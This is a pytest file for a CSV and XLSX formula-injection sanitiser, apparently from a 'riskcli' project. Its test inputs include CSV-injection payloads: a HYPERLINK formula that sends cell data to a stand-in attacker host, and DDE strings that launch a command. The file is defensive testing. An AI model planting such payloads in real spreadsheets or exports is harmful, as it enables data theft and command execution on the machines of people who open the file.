"""Formula-injection neutralisation (OWASP CSV injection) for CSV and XLSX cells."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from riskcli.domain.safety import (
    DANGEROUS_PREFIXES,
    is_dangerous,
    neutralise_cell,
    neutralise_frame,
    neutralise_records,
    neutralise_rows,
)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "-",
        "+",
        "-1+2",
        "- 5",
        "-5e",
    ],
)
def test_dangerous_text_gets_a_leading_quote(text: str) -> None:
    assert is_dangerous(text)
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["Acme Ltd", "", "华东贸易有限公司", " =1 (leading space)", "a=b", "'=already", "1-2"],
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert not is_dangerous(text)
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("text", ["-5", "-5.00", "+3", "-0.5", "-.5", "-1e5", "+2.5E-3", "-12."])
def test_plain_number_text_stays_verbatim(text: str) -> None:
    assert neutralise_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [-5, -5.5, Decimal("-12.34"), 0, True, None, dt.date(2026, 1, 2), dt.datetime(2026, 1, 2, 3)],
)
def test_non_text_values_are_returned_as_is(value: object) -> None:
    assert neutralise_cell(value) is value


@given(st.text())
def test_neutralised_text_never_starts_with_a_dangerous_prefix_unless_a_plain_number(
    text: str,
) -> None:
    out = neutralise_cell(text)
    assert isinstance(out, str)
    # The original text is always recoverable: at most one quote was prepended.
    assert out in (text, "'" + text)
    if out.startswith(DANGEROUS_PREFIXES):
        assert not is_dangerous(out)


def test_rows_and_records() -> None:
    rows = neutralise_rows([["=1", 2, "-3"], ["ok", "@x", None]])
    assert rows == [["'=1", 2, "-3"], ["ok", "'@x", None]]
    recs = neutralise_records([{"=h": "+x", "n": -1}])
    assert recs == [{"'=h": "'+x", "n": -1}]


def test_frame_keeps_numeric_dtypes_and_neutralises_text_and_headers() -> None:
    frame = pd.DataFrame(
        {
            "name": ["=cmd()", "Acme", None],
            "amount": [-1.5, 2.0, 3.0],
            "count": [-1, 2, 3],
            "when": pd.to_datetime(["2026-01-01", "2026-01-02", "2026-01-03"]),
            "=evil": ["-2", "+x", "@y"],
        }
    )
    out = neutralise_frame(frame)
    assert list(out.columns) == ["name", "amount", "count", "when", "'=evil"]
    assert out["name"].tolist()[:2] == ["'=cmd()", "Acme"]
    assert out["name"].isna().tolist() == [False, False, True]
    assert out["'=evil"].tolist() == ["-2", "'+x", "'@y"]
    assert out["amount"].dtype == frame["amount"].dtype
    assert out["count"].dtype == frame["count"].dtype
    assert out["when"].dtype == frame["when"].dtype
    # the input frame is not modified
    assert frame["name"].iloc[0] == "=cmd()"


def test_frame_with_duplicate_labels_and_string_dtype() -> None:
    frame = pd.DataFrame([["=a", "+b"]], columns=["x", "x"]).astype("string")
    out = neutralise_frame(frame)
    assert out.iloc[0].tolist() == ["'=a", "'+b"]


def test_csv_round_trip_a_spreadsheet_sees_text() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerows(neutralise_rows([["name", "amount"], ["=1+1", -4]]))
    back = list(csv.reader(io.StringIO(buf.getvalue())))
    assert back == [["name", "amount"], ["'=1+1", "-4"]]
